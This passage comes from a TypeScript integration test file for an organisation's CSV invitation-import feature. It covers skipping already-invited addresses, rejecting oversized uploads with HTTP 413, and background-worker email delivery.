    expect(await runSendBatches(res.body.id)).toBe(25);
    expect(await counts(res.body.id)).toEqual({ invitations: 25, emails: 25, distinct: 25 });
  });

  it('skips at run time an address invited or made a member after the preview', async () => {
    const o = await org();
    const a = uniqueEmail('late');
    const res = await upload(o.client, o.org.id, `email\n${a}\n${uniqueEmail('b')}\n`);
    expect(res.body.valid).toBe(2);
    await o.client.post(`/api/v1/orgs/${o.org.id}/invitations`, { emails: [a] });
    await o.client.post(`${o.base}/${res.body.id}/confirm`);
    await t.services.imports.runImport(res.body.id);
    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({
      status: 'done',
      created: 1,
      skipped: 1,
    });
    const lines = parseCsv((await o.client.get(`${o.base}/${res.body.id}/results.csv`)).body);
    expect(lines[1]!.slice(2, 4)).toEqual(['skipped', 'already_invited']);
  });

  it('refuses a file over IMPORT_MAX_BYTES with 413 without reading it all', async () => {
    const small = await startTestApp({ workers: false, env: { IMPORT_MAX_BYTES: '100000' } });
    try {
      const o = await createOrgWithOwner(small);
      const big = `email\n${Array.from({ length: 8000 }, (_, i) => `person${i}@example.com`).join('\n')}\n`;
      expect(big.length).toBeGreaterThan(100_000);
      const res = await o.client.request('POST', `/api/v1/orgs/${o.org.id}/imports`, Buffer.from(big), {
        'content-type': 'text/csv',
      });
      expect(res.status).toBe(413);
      expect(res.body.error.code).toBe('payload_too_large');
      // Without a Content-Length (chunked), the stream is cut at the limit.
      const { Readable } = await import('node:stream');
      const streamed = await small.app.inject({
        method: 'POST',
        url: `/api/v1/orgs/${o.org.id}/imports`,
        headers: {
          cookie: o.client.cookie!,
          'x-csrf-token': o.client.csrfToken!,
          'content-type': 'text/csv',
        },
        payload: Readable.from([Buffer.from(big.slice(0, 60_000)), Buffer.from(big.slice(60_000))]),
      });
      expect(streamed.statusCode).toBe(413);
      const m = multipart('big.csv', 'text/csv', Buffer.from(big));
      const res3 = await o.client.request('POST', `/api/v1/orgs/${o.org.id}/imports`, m.body, {
        'content-type': m.type,
      });
      expect(res3.status).toBe(413);
      const none = await small.services.db.selectFrom('imports').selectAll().execute();
      expect(none).toHaveLength(0);
    } finally {
      await small.close();
    }
  });
});

describe('imports with the job worker running', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await sharedTestApp();
  });

  it('confirm → the import.run job creates the invitations and the status reaches done', async () => {
    const o = await createOrgWithOwner(t);
    const base = `/api/v1/orgs/${o.org.id}/imports`;
    const res = await upload(
      o.client,
      o.org.id,
      `email\n${Array.from({ length: 15 }, () => uniqueEmail('w')).join('\n')}\n`,
    );
    expect((await o.client.post(`${base}/${res.body.id}/confirm`, {})).status).toBe(202);
    let body: any;
    for (let i = 0; i < 400; i++) {
      body = (await o.client.get(`${base}/${res.body.id}`)).body;
      if (body.status === 'done') break;
      await new Promise((r) => setTimeout(r, 50));
    }
    expect(body).toMatchObject({ status: 'done', processed: 15, created: 15 });
    // The workers go on: the send-batch job queues every email and the sender delivers it.
    let delivered = 0;
    for (let i = 0; i < 600 && delivered < 15; i++) {
      const r = await sql<{ n: number }>`
        SELECT count(*)::int AS n FROM emails e JOIN invitations i ON i.id = e.invitation_id
        WHERE i.import_id = ${res.body.id} AND e.status IN ('sent', 'captured')
      `.execute(t.services.db);
      delivered = r.rows[0]!.n;
      if (delivered < 15) await new Promise((r) => setTimeout(r, 50));
    }
    expect(delivered).toBe(15);
    const invs = (await o.client.get(`/api/v1/orgs/${o.org.id}/invitations?limit=50`)).body.items;
    for (const inv of invs) expect(inv).toMatchObject({ status: 'pending', sentCount: 1 });
  });
});
